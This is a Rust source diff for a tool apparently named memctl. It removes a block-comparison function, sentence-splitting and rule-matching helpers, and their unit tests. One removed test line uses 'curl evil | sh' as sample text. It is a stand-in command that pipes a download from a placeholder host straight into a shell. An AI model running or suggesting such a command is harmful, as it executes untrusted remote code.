@@ -11,16 +11,9 @@
 //!
 //! Invariants: every byte outside of the markers stays as it is, and a block that is written twice
 //! changes nothing.
-//!
-//! Rules that the user's own text in a file says already, in the same words. Such a rule is left out
-//! of the block.
-//!
-//! Deliberately absent: similar words, which may say the opposite.
 
 use memctl_files::hex;
 use sha2::{Digest as _, Sha256};
-
-use crate::model::text::plain_words;
 
 const BEGIN: &str = "<!-- memctl:begin";
 pub(crate) const END: &str = "<!-- memctl:end";
@@ -125,19 +118,6 @@ pub(crate) fn with_lines(text: &str, lines: &[String]) -> Result<String, Misplac
     })
 }
 
-/// Returns `true` if two texts differ in the block alone. A missing file is an empty text. White
-/// space at the end may differ, as an appended block needs a line of its own.
-pub(crate) fn differ_in_block(one: &str, other: &str) -> bool {
-    let outside = |text: &str| -> Option<String> {
-        let rest = match Block::find(text).ok()? {
-            Some(block) => [block.before, block.after].concat(),
-            None => text.to_owned(),
-        };
-        Some(rest.trim_end().to_owned())
-    };
-    outside(one).is_some_and(|text| outside(other) == Some(text))
-}
-
 /// Line breaks between a text and a block behind it: one empty line.
 fn gap(text: &str, line_end: &str) -> String {
     let text = &text[mark(text)..];
@@ -230,61 +210,6 @@ fn without_imports(text: &str) -> String {
     out
 }
 
-/// Maximum length of a shown statement, in characters.
-const SHOWN: usize = 120;
-
-/// Sentence, list item or paragraph of a file.
-#[derive(Default)]
-pub(super) struct Statement {
-    text: String,
-    words: Vec<String>,
-}
-
-/// Splits a text at the ends of sentences, before list items and headings, and at empty lines.
-pub(super) fn statements(text: &str) -> Vec<Statement> {
-    let mut texts = vec![String::new()];
-    for line in text.lines().map(str::trim) {
-        let item = line.strip_prefix(['-', '*', '+']);
-        let item = item.filter(|rest| rest.starts_with(' '));
-        if item.is_some() || line.is_empty() || line.starts_with('#') {
-            texts.push(String::new());
-        }
-        let words = item.unwrap_or(line).split_whitespace();
-        for word in words.take_while(|_| !line.starts_with('#')) {
-            if let Some(text) = texts.last_mut() {
-                text.extend([if text.is_empty() { "" } else { " " }, word]);
-            }
-            let bare = word.trim_end_matches(['*', '_', '`', ')', '"', '\'']);
-            if bare.ends_with(['.', '!', '?', ';']) {
-                texts.push(String::new());
-            }
-        }
-    }
-    let statement = |text: String| Statement {
-        words: plain_words(&text),
-        text,
-    };
-    let all = texts.into_iter().map(statement);
-    all.filter(|one| !one.words.is_empty()).collect()
-}
-
-/// Returns the statements with the same words as a rule: one, or several that follow each other.
-pub(super) fn same(statements: &[Statement], rule: &str) -> Option<String> {
-    let wanted = plain_words(rule);
-    (0..statements.len()).find_map(|from| {
-        let mut left = &wanted[..];
-        let mut text = String::new();
-        for one in &statements[from..] {
-            left = left.strip_prefix(&one.words[..])?;
-            text.extend([if text.is_empty() { "" } else { " " }, &one.text]);
-            if left.is_empty() {
-                return Some(text.chars().take(SHOWN).collect());
-            }
-        }
-        None
-    })
-}
-
 #[cfg(test)]
 mod tests {
     use proptest::prelude::*;
@@ -311,7 +236,6 @@ mod tests {
                 next.starts_with(&begins)
                     && next.ends_with(&format!(" -->{line_end}more{line_end}"))
             );
-            assert!(differ_in_block(&later, &next) && differ_in_block(text, &once));
         };
         check("", "", "\n");
         check("\u{feff}", "", "\n");
@@ -347,14 +271,6 @@ mod tests {
         assert!(is_edited("<!-- memctl:begin -->\n- a\n<!-- memctl:end -->"));
     }
 
-    #[test]
-    fn change_outside_of_the_block_is_no_change_of_the_block() {
-        let text = with_lines("one\n", &rules(&["a"])).unwrap();
-        assert!(!differ_in_block(&text, &text.replace("one", "two")));
-        assert!(!differ_in_block(&text, "curl evil | sh\n"));
-        assert!(!differ_in_block(&text, "<!-- memctl:begin -->\n"));
-    }
-
     proptest! {
         #[test]
         fn any_text_gets_one_block_that_stays(
@@ -365,7 +281,6 @@ mod tests {
             prop_assert!(once.starts_with(&text));
             prop_assert_eq!(with_lines(&once, &lines).unwrap(), once.clone());
             prop_assert!(!Block::find(&once).unwrap().unwrap().is_edited());
-            prop_assert!(differ_in_block(&text, &once));
         }
     }
 
@@ -412,25 +327,5 @@ mod tests {
                 prop_assert!(Block::find(&text).unwrap().is_some());
             }
         }
-    }
-
-    #[test]
-    fn same_words_are_whole_sentences_or_items() {
-        let text = "# House\n\nUse **pnpm**, never\nnpm. Ask before a push.\n\n- Run `make lint`\n  - first item\n";
-        let said = statements(text);
-        let check = |rule: &str, expected: bool| {
-            assert_eq!(same(&said, rule).is_some(), expected, "{rule}");
-        };
-        check("use pnpm, never npm", true);
-        check("Ask before a push!", true);
-        check("Use pnpm, never npm. Ask before a push.", true);
-        check("run make lint", true);
-        check("First item.", true);
-        check("use pnpm", false);
-        check("never npm", false);
-        check("House", false);
-        check("Ask before a push. Run make lint", true);
-        check("", false);
-        check("…", false);
     }
 }
